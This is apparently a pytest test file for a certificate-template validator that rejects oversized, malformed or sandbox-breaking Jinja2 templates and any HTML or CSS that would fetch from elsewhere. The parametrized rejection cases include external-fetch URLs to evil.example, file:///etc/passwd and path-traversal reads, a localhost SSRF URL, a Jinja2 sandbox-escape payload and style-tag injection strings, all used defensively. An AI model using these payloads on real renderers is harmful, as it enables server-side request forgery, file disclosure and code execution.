"""Certificate templates are checked when saved: size, Jinja2 syntax, the sandbox, and no URL
the renderer would fetch other than our own assets and inline images."""

import pytest

from shared.certificates import design

OK_BODY = "<h1>{{ holder_name }}</h1><p>{{ code }}</p><p>{{ verify_url }}</p>"


def check(html=OK_BODY, css=""):
    design.check(html, css, base_css=design.BASE_CSS)


def problem(html=OK_BODY, css=""):
    with pytest.raises(design.TemplateProblem) as err:
        check(html, css)
    return err.value


def test_the_shipped_default_template_passes():
    check(design.default_html(), design.default_css())


def test_links_our_assets_and_inline_images_pass():
    check(
        OK_BODY
        + '<img src="{{ logo_url }}"><img src="{{ qr_url }}"><img src="{{ signature_url }}">'
        + '<a href="https://example.com/anywhere">a link is not a fetch</a>'
        + '<img src="data:image/png;base64,iVBORw0KGgo=">',
        css=".x{background:url(asset:logo)} .y{background-image:url('data:image/png;base64,AA==')}",
    )


@pytest.mark.parametrize(
    "html",
    [
        '<img src="https://evil.example/pixel.png">',
        '<img src="http://127.0.0.1:8080/x">',
        '<img srcset="a.png 1x, https://evil.example/b.png 2x">',
        '<link rel="stylesheet" href="https://evil.example/x.css">',
        '<object data="file:///etc/passwd"></object>',
        '<img src="/etc/passwd">',
        '<img src="asset:../../secrets">',
        '<svg><image href="https://evil.example/i.svg"/></svg>',
        '<div style="background:url(https://evil.example/bg.png)"></div>',
        "<style>@import 'https://evil.example/x.css';</style>",
        "<style>.a{background:url(//evil.example/a.png)}</style>",
        # built by the template: only the rendered output shows it
        "<img src=\"{{ 'ht' ~ 'tps://evil.example/' ~ code }}\">",
        '<base href="https://evil.example/"><img src="x.png">',
    ],
)
def test_anything_that_would_fetch_from_elsewhere_is_refused(html):
    err = problem(OK_BODY + html)
    assert err.field == "html"
    assert "nothing is fetched from elsewhere" in str(err)


@pytest.mark.parametrize(
    "css",
    [
        ".a{background:url(https://evil.example/a.png)}",
        "@import url('https://evil.example/x.css');",
        '@font-face{font-family:X;src:url("http://evil.example/f.woff2")}',
        ".a{background:url(file:///etc/passwd)}",
    ],
)
def test_a_stylesheet_fetching_from_elsewhere_is_refused(css):
    err = problem(css=css)
    assert err.field == "css"


def test_syntax_errors_name_the_line():
    err = problem("<h1>{{ holder_name }}</h1>\n{% if code %}\n<p>{{ verify_url }</p>")
    assert err.field == "html"
    assert "line" in str(err)


def test_the_sandbox_refuses_python_internals():
    err = problem(OK_BODY + "{{ holder_name.__class__.__mro__[1].__subclasses__() }}")
    assert "not allowed" in str(err)


def test_an_unknown_variable_is_an_error_not_a_blank():
    err = problem(OK_BODY + "{{ holder_email }}")
    assert "cannot render" in str(err)


@pytest.mark.parametrize("missing", ["holder_name", "code", "verify_url"])
def test_the_template_must_print_the_name_the_code_and_the_verify_url(missing):
    body = OK_BODY.replace("{{ " + missing + " }}", "")
    err = problem(body)
    assert missing in str(err)


def test_size_limits():
    assert problem(OK_BODY + "x" * design.MAX_HTML).field == "html"
    assert problem(css="a{}" * (design.MAX_CSS // 3 + 1)).field == "css"


def test_the_document_escapes_what_it_prints_and_keeps_css_inside_its_element():
    ctx = design.context(
        {**design.SAMPLE, "holder_name": "<script>x</script>"},
        theme={"primary": "#123456", "text": "red;}</style><script>"},
        has_logo=False,
        has_signature=False,
    )
    doc = design.render_html(OK_BODY, "a{}</style><img src=x>", ctx, base_css="")
    assert "<script>x</script>" not in doc
    assert "&lt;script&gt;x&lt;/script&gt;" in doc
    assert "--primary:#123456" in doc and "</style><script>" not in doc
    assert "</style><img" not in doc
    # the document's metadata: title, author (the channel) and the code as keyword
    assert '<meta name="author" content="Sample channel">' in doc
    assert f'<meta name="keywords" content="{design.SAMPLE["code"]}">' in doc
